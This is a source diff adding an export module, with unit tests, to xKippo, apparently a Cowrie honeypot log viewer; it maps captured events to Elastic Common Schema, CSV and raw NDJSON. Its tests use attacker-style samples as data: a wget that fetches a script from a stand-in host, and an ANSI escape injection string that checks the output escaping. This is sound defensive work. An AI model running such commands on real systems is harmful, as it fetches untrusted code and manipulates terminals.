@@ -0,0 +1,797 @@
+//! Export of ingested events to files
+//!
+//! Every format writes newline-delimited JSON, one document per log entry, in
+//! the order the entries were ingested. Either the whole store or just the
+//! entries behind the filtered view on screen are written (see [`ExportScope`]):
+//!
+//! | Format | Document                                                   |
+//! |--------|------------------------------------------------------------|
+//! | `json` | The [`LogEntry`] as xKippo stores it                        |
+//! | `ecs`  | The entry mapped to the Elastic Common Schema (see [`ecs_document`]) |
+//!
+//! Group-by tables from the logs tab are exported separately as CSV (see
+//! [`export_counts`]), and a single session's original log lines as they
+//! were read (see [`export_raw_session`]).
+
+use anyhow::{Context, Result};
+use chrono::Utc;
+use log::{info, warn};
+use serde_json::{json, Map, Value};
+use std::borrow::Cow;
+use std::fs::{self, File};
+use std::io::{BufWriter, Write};
+use std::path::{Path, PathBuf};
+
+use crate::config::Config;
+use crate::core::cast::safe_name;
+use crate::data::{EventType, LogEntry, Session, StoreHandle, StoreSnapshot};
+use crate::data::attack::attack_mapping;
+use crate::ui::sanitize::escape_controls;
+
+/// ECS version the `ecs` format targets
+pub const ECS_VERSION: &str = "8.11.0";
+
+/// Risk score at which a session's source IP is reported as a threat indicator
+const INDICATOR_SCORE: u8 = 70;
+
+/// Output format of an export
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ExportFormat {
+    /// xKippo's own log entry representation
+    Json,
+    /// Elastic Common Schema documents
+    Ecs,
+}
+
+impl ExportFormat {
+    /// File extension used for this format
+    pub fn extension(&self) -> &'static str {
+        match self {
+            ExportFormat::Json => "json.ndjson",
+            ExportFormat::Ecs => "ecs.ndjson",
+        }
+    }
+}
+
+impl std::fmt::Display for ExportFormat {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ExportFormat::Json => write!(f, "json"),
+            ExportFormat::Ecs => write!(f, "ecs"),
+        }
+    }
+}
+
+impl std::str::FromStr for ExportFormat {
+    type Err = anyhow::Error;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s.trim().to_lowercase().as_str() {
+            "json" => Ok(ExportFormat::Json),
+            "ecs" => Ok(ExportFormat::Ecs),
+            _ => Err(anyhow::anyhow!("Unknown export format '{}'", s)),
+        }
+    }
+}
+
+/// Which log entries an export covers
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ExportScope {
+    /// Every entry in the store
+    All,
+    /// The entries matching the filters of the view on screen
+    Filtered,
+}
+
+/// Export `entries` in every format listed in `export.formats`
+///
+/// Filtered exports get `-filtered` in their file names so they aren't
+/// mistaken for a full dump.
+pub fn export_snapshot(config: &Config, store: &StoreSnapshot, entries: &[&LogEntry], scope: ExportScope) -> Result<Vec<PathBuf>> {
+    let formats = if config.export.formats.is_empty() {
+        vec![ExportFormat::Json]
+    } else {
+        config.export.formats.iter()
+            .map(|format| format.parse())
+            .collect::<Result<Vec<ExportFormat>>>()?
+    };
+
+    let export_dir = export_dir(config)?;
+    let stamp = Utc::now().format("%Y%m%dT%H%M%SZ");
+    let suffix = match scope {
+        ExportScope::All => "",
+        ExportScope::Filtered => "-filtered",
+    };
+    let mut paths = Vec::new();
+
+    for format in formats {
+        let path = export_dir.join(format!("xkippo-{}{}.{}", stamp, suffix, format.extension()));
+        let count = export_log_entries(store, entries, format, &path)?;
+        info!("Exported {} log entries as {} to {}", count, format, path.display());
+        paths.push(path);
+    }
+
+    Ok(paths)
+}
+
+/// Write a group-by table as CSV (`value,count,percent`), returning its path
+///
+/// `name` is the grouped field and ends up in the file name.
+pub fn export_counts(config: &Config, name: &str, rows: &[(String, usize)], total: usize) -> Result<PathBuf> {
+    let export_dir = export_dir(config)?;
+    let stamp = Utc::now().format("%Y%m%dT%H%M%SZ");
+    let path = export_dir.join(format!("xkippo-{}-by-{}.csv", stamp, name));
+
+    let file = File::create(&path)
+        .context(format!("Failed to create export file: {}", path.display()))?;
+    let mut writer = BufWriter::new(file);
+
+    writeln!(writer, "{},count,percent", name)?;
+    for (value, count) in rows {
+        let percent = if total == 0 { 0.0 } else { *count as f64 * 100.0 / total as f64 };
+        writeln!(writer, "{},{},{:.2}", csv_field(value), count, percent)?;
+    }
+
+    writer.flush()
+        .context(format!("Failed to write export file: {}", path.display()))?;
+
+    info!("Exported {} groups by {} to {}", rows.len(), name, path.display());
+    Ok(path)
+}
+
+/// Write the original log lines of `session` as newline-delimited JSON, returning the path and line count
+///
+/// Each line is the `raw` JSON its entry was parsed from, in the order the
+/// entries were ingested, for use as the ground-truth record of the session.
+/// Entries stored without it (`filter.keep_raw = false`) are left out.
+pub fn export_raw_session(config: &Config, store: &StoreHandle, session: &Session) -> Result<(PathBuf, usize)> {
+    let (kept, missing): (Vec<LogEntry>, Vec<LogEntry>) = store.session_log_entries(session)
+        .into_iter()
+        .partition(|entry| !entry.raw.is_null());
+    if kept.is_empty() {
+        if missing.is_empty() {
+            anyhow::bail!("No log entries are stored for this session");
+        }
+        anyhow::bail!("The original log lines of this session weren't kept (filter.keep_raw = false)");
+    }
+
+    let path = export_dir(config)?.join(format!(
+        "xkippo-session-{}-{}-raw.ndjson",
+        safe_name(session.display_id()),
+        session.start_time.format("%Y%m%dT%H%M%SZ")
+    ));
+    let file = File::create(&path)
+        .context(format!("Failed to create export file: {}", path.display()))?;
+    let mut writer = BufWriter::new(file);
+
+    for entry in &kept {
+        serde_json::to_writer(&mut writer, &entry.raw)?;
+        writer.write_all(b"\n")?;
+    }
+    writer.flush()
+        .context(format!("Failed to write export file: {}", path.display()))?;
+
+    if !missing.is_empty() {
+        warn!("{} log entries of session {} had no original line and were left out", missing.len(), session.id);
+    }
+    info!("Exported {} original log lines of session {} to {}", kept.len(), session.id, path.display());
+    Ok((path, kept.len()))
+}
+
+/// `export.export_dir`, or the current directory, created if missing
+pub(crate) fn export_dir(config: &Config) -> Result<PathBuf> {
+    let export_dir = match &config.export.export_dir {
+        Some(dir) => PathBuf::from(dir),
+        None => std::env::current_dir().context("Failed to determine current directory")?,
+    };
+
+    fs::create_dir_all(&export_dir)
+        .context(format!("Failed to create directory: {}", export_dir.display()))?;
+
+    Ok(export_dir)
+}
+
+/// Escape control characters in a CSV field as the views do, then quote it if it contains a separator or quote
+///
+/// Values come from attackers, so an ANSI sequence in a command must not
+/// restyle the terminal of whoever `cat`s the file.
+fn csv_field(value: &str) -> Cow<'_, str> {
+    let value = escape_controls(value);
+    if value.contains(|c: char| matches!(c, ',' | '"')) {
+        Cow::Owned(format!("\"{}\"", value.replace('"', "\"\"")))
+    } else {
+        value
+    }
+}
+
+/// Write `entries` to `path`, returning the number written
+///
+/// `store` supplies the sessions the ECS documents are enriched from.
+pub fn export_log_entries(store: &StoreSnapshot, entries: &[&LogEntry], format: ExportFormat, path: &Path) -> Result<usize> {
+    let file = File::create(path)
+        .context(format!("Failed to create export file: {}", path.display()))?;
+    let mut writer = BufWriter::new(file);
+
+    for entry in entries {
+        let document = match format {
+            ExportFormat::Json => serde_json::to_value(entry)?,
+            ExportFormat::Ecs => {
+                let session = store.get_session_for_entry(entry);
+                ecs_document(entry, session)
+            }
+        };
+
+        serde_json::to_writer(&mut writer, &document)?;
+        writer.write_all(b"\n")?;
+    }
+
+    writer.flush()
+        .context(format!("Failed to write export file: {}", path.display()))?;
+
+    Ok(entries.len())
+}
+
+/// Map a log entry (and its session, if known) to an ECS document
+///
+/// Fields without an ECS equivalent, such as the session ID and attempted
+/// password, are kept under the custom `cowrie` field set.
+pub fn ecs_document(entry: &LogEntry, session: Option<&Session>) -> Value {
+    let (category, event_type) = ecs_categorization(&entry.event_type);
+
+    let mut event = json!({
+        "kind": "event",
+        "category": category,
+        "type": event_type,
+        "action": if entry.eventid.is_empty() { entry.event_type.to_string() } else { entry.eventid.clone() },
+        "dataset": "cowrie",
+        "module": "cowrie",
+        "id": entry.id,
+    });
+    match entry.event_type {
+        EventType::LoginSuccess => event["outcome"] = json!("success"),
+        EventType::LoginFailed => event["outcome"] = json!("failure"),
+        _ => {}
+    }
+    if let Some(session) = session {
+        event["risk_score"] = json!(session.malicious_score);
+    }
+    // ECS durations are in nanoseconds; the close carries the session's total
+    let closed_session = session.filter(|s| entry.event_type == EventType::Disconnect && s.duration.is_some());
+    if let Some(session) = closed_session {
+        event["duration"] = json!(session.duration.unwrap_or_default().saturating_mul(1_000_000_000));
+    }
+
+    let mut document = Map::new();
+    document.insert("@timestamp".to_string(), json!(entry.timestamp.to_rfc3339()));
+    document.insert("ecs".to_string(), json!({ "version": ECS_VERSION }));
+    document.insert("event".to_string(), event);
+    document.insert("observer".to_string(), json!({
+        "type": "honeypot",
+        "vendor": "Cowrie",
+        "product": "Cowrie",
+    }));
+
+    // Source, falling back to the session for events that don't repeat it
+    let src_ip = entry.src_ip.clone().or_else(|| session.map(|s| s.src_ip.clone()));
+    let mut source = Map::new();
+    if let Some(ip) = &src_ip {
+        source.insert("ip".to_string(), json!(ip));
+    }
+    if let Some(port) = entry.src_port {
+        source.insert("port".to_string(), json!(port));
+    }
+    if let Some(geo) = session.and_then(|s| s.geo_location.as_ref()) {
+        let mut source_geo = Map::new();
+        source_geo.insert("country_iso_code".to_string(), json!(geo.country_code));
+        source_geo.insert("country_name".to_string(), json!(geo.country_name));
+        if let Some(city) = &geo.city {
+            source_geo.insert("city_name".to_string(), json!(city));
+        }
+        if let (Some(lat), Some(lon)) = (geo.latitude, geo.longitude) {
+            source_geo.insert("location".to_string(), json!({ "lat": lat, "lon": lon }));
+        }
+        source.insert("geo".to_string(), Value::Object(source_geo));
+
+        if let Some(asn) = geo.asn.as_ref().and_then(|asn| asn.trim_start_matches("AS").parse::<u64>().ok()) {
+            source.insert("as".to_string(), json!({ "number": asn }));
+        }
+    }
+    if !source.is_empty() {
+        document.insert("source".to_string(), Value::Object(source));
+    }
+
+    let mut destination = Map::new();
+    if let Some(ip) = &entry.dst_ip {
+        destination.insert("ip".to_string(), json!(ip));
+    }
+    if let Some(port) = entry.dst_port {
+        destination.insert("port".to_string(), json!(port));
+    }
+    if !destination.is_empty() {
+        document.insert("destination".to_string(), Value::Object(destination));
+    }
+
+    if let Some(session) = session {
+        document.insert("network".to_string(), json!({
+            "transport": "tcp",
+            "protocol": session.protocol.to_lowercase(),
+        }));
+
+        if let Some(version) = &session.client_version {
+            document.insert("user_agent".to_string(), json!({ "original": version }));
+        }
+
+        if !session.tags.is_empty() {
+            document.insert("tags".to_string(), json!(session.tags));
+        }
+    }
+
+    if let Some(username) = &entry.username {
+        document.insert("user".to_string(), json!({ "name": username }));
+    }
+
+    if let Some(command) = &entry.command {
+        let name = command.split_whitespace().next().unwrap_or_default();
+        document.insert("process".to_string(), json!({
+            "command_line": command,
+            "name": name,
+        }));
+    }
+
+    if let Some(file) = &entry.file {
+        let mut file_doc = Map::new();
+        file_doc.insert("name".to_string(), json!(file.filename));
+        if let Some(path) = &file.local_path {
+            file_doc.insert("path".to_string(), json!(path));
+        }
+        if let Some(size) = file.size {
+            file_doc.insert("size".to_string(), json!(size));
+        }
+        if let Some(shasum) = &file.shasum {
+            file_doc.insert("hash".to_string(), json!({ "sha256": shasum }));
+        }
+        if let Some(mime_type) = &file.mime_type {
+            file_doc.insert("mime_type".to_string(), json!(mime_type));
+        }
+        document.insert("file".to_string(), Value::Object(file_doc));
+
+        if let Some(url) = entry.fields.get("url").and_then(|url| url.as_str()) {
+            document.insert("url".to_string(), json!({ "original": url }));
+        }
+    }
+
+    let mut threat = Map::new();
+    if let Some(indicator) = threat_indicator(entry, session, src_ip.as_deref()) {
+        threat.insert("indicator".to_string(), indicator);
+    }
+    if let Some(session) = session.filter(|s| !s.techniques.is_empty()) {
+        let mapping = attack_mapping();
+        let names = session.techniques.iter()
+            .map(|id| mapping.technique(id).map_or_else(|| id.clone(), |technique| technique.name.clone()))
+            .collect::<Vec<_>>();
+        threat.insert("framework".to_string(), json!("MITRE ATT&CK"));
+        threat.insert("technique".to_string(), json!({ "id": session.techniques, "name": names }));
+    }
+    if !threat.is_empty() {
+        document.insert("threat".to_string(), Value::Object(threat));
+    }
+
+    let mut cowrie = Map::new();
+    if let Some(session_id) = &entry.session {
+        cowrie.insert("session".to_string(), json!(session_id));
+    }
+    if let Some(password) = &entry.password {
+        cowrie.insert("password".to_string(), json!(password));
+    }
+    if let Some(session) = closed_session {
+        cowrie.insert("duration".to_string(), json!(session.duration));
+        cowrie.insert("active_duration".to_string(), json!(session.active_secs()));
+    }
+    if !cowrie.is_empty() {
+        document.insert("cowrie".to_string(), Value::Object(cowrie));
+    }
+
+    Value::Object(document)
+}
+
+/// ECS `event.category` and `event.type` for an event type
+fn ecs_categorization(event_type: &EventType) -> (Vec<&'static str>, Vec<&'static str>) {
+    match event_type {
+        EventType::Connect => (vec!["network", "session"], vec!["connection", "start"]),
+        EventType::Disconnect => (vec!["network", "session"], vec!["connection", "end"]),
+        EventType::LoginAttempt | EventType::LoginSuccess | EventType::LoginFailed | EventType::KeyAuth => {
+            (vec!["authentication"], vec!["start"])
+        }
+        EventType::Command => (vec!["process"], vec!["start"]),
+        EventType::FileUpload | EventType::FileDownload => (vec!["file"], vec!["creation"]),
+        EventType::TCPForward => (vec!["network"], vec!["connection"]),
+        EventType::Unknown => (vec![], vec!["info"]),
+    }
+}
+
+/// `threat.indicator` for transferred files and high-risk source addresses
+fn threat_indicator(entry: &LogEntry, session: Option<&Session>, src_ip: Option<&str>) -> Option<Value> {
+    if let Some(shasum) = entry.file.as_ref().and_then(|file| file.shasum.as_ref()) {
+        return Some(json!({
+            "type": "file",
+            "file": { "hash": { "sha256": shasum } },
+        }));
+    }
+
+    let session = session.filter(|s| s.malicious_score >= INDICATOR_SCORE)?;
+    let ip = src_ip?;
+    let indicator_type = if ip.contains(':') { "ipv6-addr" } else { "ipv4-addr" };
+
+    Some(json!({
+        "type": indicator_type,
+        "ip": ip,
+        "first_seen": session.start_time.to_rfc3339(),
+    }))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::log_analyzer::LogAnalyzer;
+    use crate::data::testing::{at, session};
+    use crate::data::GeoLocation;
+    use pretty_assertions::assert_eq;
+
+    const SHA: &str = "a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2";
+
+    /// `fields` as a Cowrie event of `eventid` from session a1b2c3d4, parsed as it would be ingested
+    fn cowrie(eventid: &str, fields: Value) -> LogEntry {
+        let mut line = json!({
+            "eventid": eventid,
+            "timestamp": "2023-11-14T22:13:20.000000Z",
+            "session": "a1b2c3d4",
+            "src_ip": "203.0.113.7",
+            "sensor": "hp1",
+        });
+        line.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
+        let mut entry = LogAnalyzer::new().parse_log_entry(&line.to_string()).unwrap();
+        entry.id = "e1".to_string();
+        entry
+    }
+
+    /// The fields every document of `cowrie()` carries, with `event` and `extra` laid over them
+    fn golden(event: Value, extra: Value) -> Value {
+        let mut document = json!({
+            "@timestamp": "2023-11-14T22:13:20+00:00",
+            "ecs": { "version": ECS_VERSION },
+            "event": { "kind": "event", "dataset": "cowrie", "module": "cowrie", "id": "e1" },
+            "observer": { "type": "honeypot", "vendor": "Cowrie", "product": "Cowrie" },
+            "source": { "ip": "203.0.113.7" },
+            "cowrie": { "session": "a1b2c3d4" },
+        });
+        document["event"].as_object_mut().unwrap().extend(event.as_object().unwrap().clone());
+        for (key, value) in extra.as_object().unwrap() {
+            match (document.get_mut(key), value) {
+                (Some(Value::Object(fields)), Value::Object(more)) => fields.extend(more.clone()),
+                _ => document[key] = value.clone(),
+            }
+        }
+        document
+    }
+
+    /// A logged-in attacker's session, with everything the documents are enriched from
+    fn attacker() -> Session {
+        let mut attacker = session("a1b2c3d4", "203.0.113.7", at(0));
+        attacker.client_version = Some("SSH-2.0-Go".to_string());
+        attacker.geo_location = Some(GeoLocation {
+            country_code: "NL".to_string(),
+            country_name: "Netherlands".to_string(),
+            city: Some("Amsterdam".to_string()),
+            latitude: Some(52.37),
+            longitude: Some(4.89),
+            asn: Some("AS1136".to_string()),
+            isp: Some("Example Hosting".to_string()),
+        });
+        attacker.tags = vec!["bruteforce".to_string()];
+        attacker.techniques = vec!["T1110.001".to_string()];
+        attacker.malicious_score = 85;
+        attacker
+    }
+
+    #[test]
+    fn connect() {
+        let entry = cowrie("cowrie.session.connect", json!({
+            "src_port": 40812, "dst_ip": "10.0.0.2", "dst_port": 22, "protocol": "ssh",
+        }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["network", "session"], "type": ["connection", "start"], "action": "cowrie.session.connect" }),
+            json!({
+                "source": { "port": 40812 },
+                "destination": { "ip": "10.0.0.2", "port": 22 },
+            }),
+        ));
+    }
+
+    #[test]
+    fn disconnect_carries_the_session_durations() {
+        let entry = cowrie("cowrie.session.closed", json!({ "duration": "93.4" }));
+        let mut closed = session("a1b2c3d4", "203.0.113.7", at(0));
+        closed.end_time = Some(at(93));
+        closed.duration = Some(93);
+        closed.active_duration = Some(41);
+
+        assert_eq!(ecs_document(&entry, Some(&closed)), golden(
+            json!({
+                "category": ["network", "session"], "type": ["connection", "end"], "action": "cowrie.session.closed",
+                "risk_score": 0, "duration": 93_000_000_000u64,
+            }),
+            json!({
+                "network": { "transport": "tcp", "protocol": "ssh" },
+                "cowrie": { "duration": 93, "active_duration": 41 },
+            }),
+        ));
+    }
+
+    #[test]
+    fn login_success() {
+        let entry = cowrie("cowrie.login.success", json!({ "username": "root", "password": "123456" }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({
+                "category": ["authentication"], "type": ["start"], "action": "cowrie.login.success", "outcome": "success",
+            }),
+            json!({ "user": { "name": "root" }, "cowrie": { "password": "123456" } }),
+        ));
+    }
+
+    #[test]
+    fn login_failed() {
+        let entry = cowrie("cowrie.login.failed", json!({ "username": "admin", "password": "admin" }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({
+                "category": ["authentication"], "type": ["start"], "action": "cowrie.login.failed", "outcome": "failure",
+            }),
+            json!({ "user": { "name": "admin" }, "cowrie": { "password": "admin" } }),
+        ));
+    }
+
+    #[test]
+    fn login_attempt_has_no_outcome() {
+        let mut entry = cowrie("cowrie.login.attempt", json!({ "username": "admin", "password": "admin" }));
+        entry.event_type = EventType::LoginAttempt;
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["authentication"], "type": ["start"], "action": "cowrie.login.attempt" }),
+            json!({ "user": { "name": "admin" }, "cowrie": { "password": "admin" } }),
+        ));
+    }
+
+    #[test]
+    fn key_auth() {
+        let entry = cowrie("cowrie.client.fingerprint", json!({
+            "username": "root", "fingerprint": "0a:1b:2c:3d", "key": "AAAAB3NzaC1yc2E", "type": "ssh-rsa",
+        }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["authentication"], "type": ["start"], "action": "cowrie.client.fingerprint" }),
+            json!({ "user": { "name": "root" } }),
+        ));
+    }
+
+    #[test]
+    fn command() {
+        let entry = cowrie("cowrie.command.input", json!({ "input": "wget http://198.51.100.9/x.sh" }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["process"], "type": ["start"], "action": "cowrie.command.input" }),
+            json!({ "process": { "command_line": "wget http://198.51.100.9/x.sh", "name": "wget" } }),
+        ));
+    }
+
+    #[test]
+    fn file_download_is_a_file_indicator() {
+        let entry = cowrie("cowrie.session.file_download", json!({
+            "url": "http://198.51.100.9/x.sh",
+            "filename": "x.sh",
+            "outfile": format!("var/lib/cowrie/downloads/{}", SHA),
+            "shasum": SHA,
+        }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["file"], "type": ["creation"], "action": "cowrie.session.file_download" }),
+            json!({
+                "file": {
+                    "name": "x.sh",
+                    "path": format!("var/lib/cowrie/downloads/{}", SHA),
+                    "hash": { "sha256": SHA },
+                },
+                "url": { "original": "http://198.51.100.9/x.sh" },
+                "threat": { "indicator": { "type": "file", "file": { "hash": { "sha256": SHA } } } },
+            }),
+        ));
+    }
+
+    #[test]
+    fn file_upload() {
+        let entry = cowrie("cowrie.session.file_upload", json!({
+            "filename": "payload.bin",
+            "outfile": format!("var/lib/cowrie/downloads/{}", SHA),
+            "shasum": SHA,
+            "size": "2048",
+        }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["file"], "type": ["creation"], "action": "cowrie.session.file_upload" }),
+            json!({
+                "file": {
+                    "name": "payload.bin",
+                    "path": format!("var/lib/cowrie/downloads/{}", SHA),
+                    "size": 2048,
+                    "hash": { "sha256": SHA },
+                },
+                "threat": { "indicator": { "type": "file", "file": { "hash": { "sha256": SHA } } } },
+            }),
+        ));
+    }
+
+    #[test]
+    fn tcp_forward() {
+        let entry = cowrie("cowrie.direct-tcpip.request", json!({
+            "src_port": 5556, "dst_ip": "198.51.100.20", "dst_port": 80,
+        }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": ["network"], "type": ["connection"], "action": "cowrie.direct-tcpip.request" }),
+            json!({
+                "source": { "port": 5556 },
+                "destination": { "ip": "198.51.100.20", "port": 80 },
+            }),
+        ));
+    }
+
+    #[test]
+    fn unknown_events_are_info() {
+        let entry = cowrie("cowrie.log.closed", json!({ "ttylog": "var/lib/cowrie/tty/abc", "size": 512 }));
+        assert_eq!(ecs_document(&entry, None), golden(
+            json!({ "category": [], "type": ["info"], "action": "cowrie.log.closed" }),
+            json!({}),
+        ));
+    }
+
+    #[test]
+    fn the_session_enriches_the_document() {
+        let entry = cowrie("cowrie.session.connect", json!({
+            "src_port": 40812, "dst_ip": "10.0.0.2", "dst_port": 22, "protocol": "ssh",
+        }));
+        assert_eq!(ecs_document(&entry, Some(&attacker())), golden(
+            json!({
+                "category": ["network", "session"], "type": ["connection", "start"], "action": "cowrie.session.connect",
+                "risk_score": 85,
+            }),
+            json!({
+                "source": {
+                    "port": 40812,
+                    "geo": {
+                        "country_iso_code": "NL",
+                        "country_name": "Netherlands",
+                        "city_name": "Amsterdam",
+                        "location": { "lat": 52.37, "lon": 4.89 },
+                    },
+                    "as": { "number": 1136 },
+                },
+                "destination": { "ip": "10.0.0.2", "port": 22 },
+                "network": { "transport": "tcp", "protocol": "ssh" },
+                "user_agent": { "original": "SSH-2.0-Go" },
+                "tags": ["bruteforce"],
+                "threat": {
+                    "indicator": { "type": "ipv4-addr", "ip": "203.0.113.7", "first_seen": "2023-11-14T22:13:20+00:00" },
+                    "framework": "MITRE ATT&CK",
+                    "technique": { "id": ["T1110.001"], "name": ["Password Guessing"] },
+                },
+            }),
+        ));
+    }
+
+    #[test]
+    fn the_source_falls_back_to_the_session() {
+        let mut entry = cowrie("cowrie.command.input", json!({ "input": "id" }));
+        entry.src_ip = None;
+        let mut quiet = attacker();
+        quiet.malicious_score = 10;
+
+        let document = ecs_document(&entry, Some(&quiet));
+        assert_eq!(document["source"]["ip"], "203.0.113.7");
+        assert_eq!(document["event"]["risk_score"], 10);
+        assert!(document["threat"].get("indicator").is_none());
+    }
+    /// Every field the documents may carry, by its ECS 8.11 name; `cowrie.*` is the custom field set
+    const ECS_FIELDS: &[&str] = &[
+        "@timestamp", "ecs.version", "tags",
+        "event.kind", "event.category", "event.type", "event.action", "event.dataset", "event.module", "event.id",
+        "event.outcome", "event.risk_score", "event.duration",
+        "observer.type", "observer.vendor", "observer.product",
+        "source.ip", "source.port", "source.as.number", "source.geo.country_iso_code", "source.geo.country_name",
+        "source.geo.city_name", "source.geo.location",
+        "destination.ip", "destination.port",
+        "network.transport", "network.protocol", "user_agent.original", "user.name",
+        "process.command_line", "process.name",
+        "file.name", "file.path", "file.size", "file.hash.sha256", "file.mime_type", "url.original",
+        "threat.framework", "threat.technique.id", "threat.technique.name",
+        "threat.indicator.type", "threat.indicator.ip", "threat.indicator.first_seen", "threat.indicator.file.hash.sha256",
+    ];
+
+    /// Dotted names of the fields of `document`, stopping at fields ECS names whole
+    fn field_names(document: &Value, prefix: &str, names: &mut Vec<String>) {
+        match document {
+            Value::Object(fields) if !ECS_FIELDS.contains(&prefix) => {
+                for (key, value) in fields {
+                    let name = if prefix.is_empty() { key.clone() } else { format!("{}.{}", prefix, key) };
+                    field_names(value, &name, names);
+                }
+            }
+            _ => names.push(prefix.to_string()),
+        }
+    }
+
+    #[test]
+    fn every_field_of_the_fixture_documents_is_an_ecs_field() {
+        let mut closed = attacker();
+        closed.end_time = Some(at(7));
+        closed.duration = Some(7);
+        let analyzer = LogAnalyzer::new();
+        let fixtures = [
+            include_str!("fixtures/cowrie-1.x.json"),
+            include_str!("fixtures/cowrie-2.x.json"),
+            include_str!("fixtures/cowrie-git.json"),
+        ];
+
+        let mut names = Vec::new();
+        for line in fixtures.iter().flat_map(|fixture| fixture.lines()) {
+            let entry = analyzer.parse_log_entry(line).unwrap();
+            field_names(&ecs_document(&entry, None), "", &mut names);
+            field_names(&ecs_document(&entry, Some(&closed)), "", &mut names);
+        }
+        names.sort_unstable();
+        names.dedup();
+
+        let unknown: Vec<&String> = names.iter()
+            .filter(|name| !ECS_FIELDS.contains(&name.as_str()) && !name.starts_with("cowrie."))
+            .collect();
+        assert!(unknown.is_empty(), "not ECS fields: {:?}", unknown);
+        // The sample reaches the fields the request names
+        for name in ["source.ip", "source.geo.country_name", "user.name", "process.command_line", "event.action", "threat.indicator.type"] {
+            assert!(names.iter().any(|field| field == name), "{} never set", name);
+        }
+    }
+
+    #[test]
+    fn an_ecs_export_is_one_document_per_line() {
+        let mut store = crate::data::Store::new(&Config::default()).unwrap();
+        store.add_session(attacker()).unwrap();
+        let entries = [
+            cowrie("cowrie.login.success", json!({ "username": "root", "password": "root" })),
+            cowrie("cowrie.command.input", json!({ "input": "uname -a" })),
+        ];
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("export.ecs.ndjson");
+
+        let written = export_log_entries(&store, &entries.iter().collect::<Vec<_>>(), ExportFormat::Ecs, &path).unwrap();
+
+        let documents: Vec<Value> = fs::read_to_string(&path).unwrap().lines()
+            .map(|line| serde_json::from_str(line).unwrap())
+            .collect();
+        assert_eq!((written, documents.len()), (2, 2));
+        assert_eq!(documents[0]["user"]["name"], "root");
+        assert_eq!(documents[1]["process"]["command_line"], "uname -a");
+        assert!(documents.iter().all(|document| document["source"]["geo"]["country_name"] == "Netherlands"));
+    }
+
+    #[test]
+    fn counts_are_written_with_controls_escaped() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut config = Config::default();
+        config.export.export_dir = Some(dir.path().display().to_string());
+        let rows = [
+            ("\x1b[2J\x1b[Hroot# echo pwned".to_string(), 3),
+            ("echo \"a,b\"\nid".to_string(), 1),
+            ("uname -a".to_string(), 0),
+        ];
+
+        let path = export_counts(&config, "command", &rows, 4).unwrap();
+
+        assert_eq!(fs::read_to_string(path).unwrap().lines().collect::<Vec<_>>(), [
+            "command,count,percent",
+            "\\x1b[2J\\x1b[Hroot# echo pwned,3,75.00",
+            "\"echo \"\"a,b\"\"\\nid\",1,25.00",
+            "uname -a,0,0.00",
+        ]);
+    }
+}